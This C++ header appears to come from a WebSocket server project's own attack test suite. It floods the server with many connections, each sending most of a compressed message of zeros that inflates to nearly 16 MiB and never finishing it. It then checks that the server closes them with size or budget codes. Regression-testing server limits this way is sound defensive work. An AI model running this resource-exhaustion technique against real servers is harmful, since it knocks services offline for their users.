// Attack: N connections negotiate permessage-deflate and each sends, in 1 KiB fragments a few
// milliseconds apart, the first part of a compressed message of zeros that inflates to just
// under the echo example's 16 MiB message limit, and never sends its last fragment (issue 16,
// defect 3). About 16 KiB on the wire per connection; what the server holds for them is the
// figure. A server-wide budget for messages in assembly closes some of them (1009 or 1013).
#pragma once

#include <sys/socket.h>

#include <chrono>
#include <map>
#include <optional>
#include <string>
#include <thread>
#include <vector>

#include "attack.hpp"
#include "bench/connector.hpp"
#include "deflate_zeros.hpp"
#include "ws_peer.hpp"

namespace fastws::attack {

struct CompressedAssemblyOptions {
  std::size_t connections = 30;
  std::size_t message_size = (std::size_t{16} << 20) - 1;  // inflated
  std::size_t fragment_size = 1024;                        // compressed bytes per frame
  std::chrono::milliseconds fragment_interval{20};
  std::chrono::milliseconds hold{3000};  // after the last fragment, before closing
};

namespace detail {

// One attacking connection: the bytes it has yet to send, and what the server said.
struct AssemblingConnection {
  bench::Fd fd;
  std::vector<std::byte> pending;
  FrameReader reader;
  std::optional<std::uint16_t> close_code;
  bool failed = false;

  void send_pending() {
    std::string ignored;
    if (failed || pending.empty()) return;
    const auto sent = send_within(fd.get(), pending, 0, ignored);
    if (!sent) {
      failed = true;  // the server closed it; its close code may be waiting to be read
      return;
    }
    pending.erase(pending.begin(), pending.begin() + static_cast<std::ptrdiff_t>(*sent));
  }

  void read_close() {
    std::byte buffer[4096];
    for (ssize_t n; (n = ::recv(fd.get(), buffer, sizeof buffer, MSG_DONTWAIT)) > 0;) {
      reader.append(buffer, static_cast<std::size_t>(n));
    }
    ServerFrame frame;
    while (reader.next(frame) == FrameReader::Result::frame) {
      if (frame.header.opcode == Opcode::close) close_code = frame.close_code();
    }
  }
};

}  // namespace detail

inline AttackOutcome run_compressed_assembly(const AttackContext& context,
                                             const CompressedAssemblyOptions& options) {
  AttackOutcome outcome;
  const std::vector<std::byte> compressed = deflated_zeros(options.message_size);
  bench::Target target;
  target.port = context.port;
  target.extra_header_lines = "Sec-WebSocket-Extensions: permessage-deflate\r\n";
  std::vector<bench::Fd> fds;
  if (!bench::open_connections(target, options.connections, options.connections, fds,
                               outcome.error)) {
    return outcome;
  }
  std::vector<detail::AssemblingConnection> connections(fds.size());
  for (std::size_t i = 0; i < fds.size(); ++i) connections[i].fd = std::move(fds[i]);
  // RFC 7692 6.1: RSV1 on the first frame of a compressed message; never FIN.
  for (std::size_t at = 0; at < compressed.size() && !context.stopped();
       at += options.fragment_size) {
    const auto fragment =
        std::span(compressed).subspan(at, std::min(options.fragment_size, compressed.size() - at));
    const auto frame =
        masked_frame(at == 0 ? Opcode::binary : Opcode::continuation, fragment, false, at == 0);
    for (auto& connection : connections) {
      connection.pending.insert(connection.pending.end(), frame.begin(), frame.end());
      connection.send_pending();
    }
    std::this_thread::sleep_for(options.fragment_interval);
  }
  const auto hold_end = Clock::now() + options.hold;
  while (Clock::now() < hold_end && !context.stopped()) {
    for (auto& connection : connections) connection.send_pending();
    std::this_thread::sleep_for(std::chrono::milliseconds(50));
  }
  std::map<std::uint16_t, std::size_t> codes;
  std::size_t closed = 0;
  for (auto& connection : connections) {
    connection.read_close();
    if (connection.close_code) ++codes[*connection.close_code];
    if (connection.close_code || connection.failed || !bench::is_established(connection.fd.get())) {
      ++closed;
    }
  }
  std::string code_list;
  bool only_size_codes = true;
  for (const auto& [code, count] : codes) {
    only_size_codes = only_size_codes && (code == 1009 || code == 1013);
    code_list +=
        (code_list.empty() ? "" : ",") + std::to_string(code) + "x" + std::to_string(count);
  }
  outcome.add("connections", connections.size());
  outcome.add("wire_bytes_each", compressed.size());
  outcome.add("inflated_bytes_each", options.message_size);
  outcome.add("closed_by_server", closed);
  if (!code_list.empty()) outcome.add("close_codes", code_list);
  // Anything else (1002: the compressed frames refused) would mean the attack never held a
  // message in assembly.
  outcome.check("the server closed only with 1009 (message) or 1013 (budget)", only_size_codes);
  return outcome;
}

}  // namespace fastws::attack
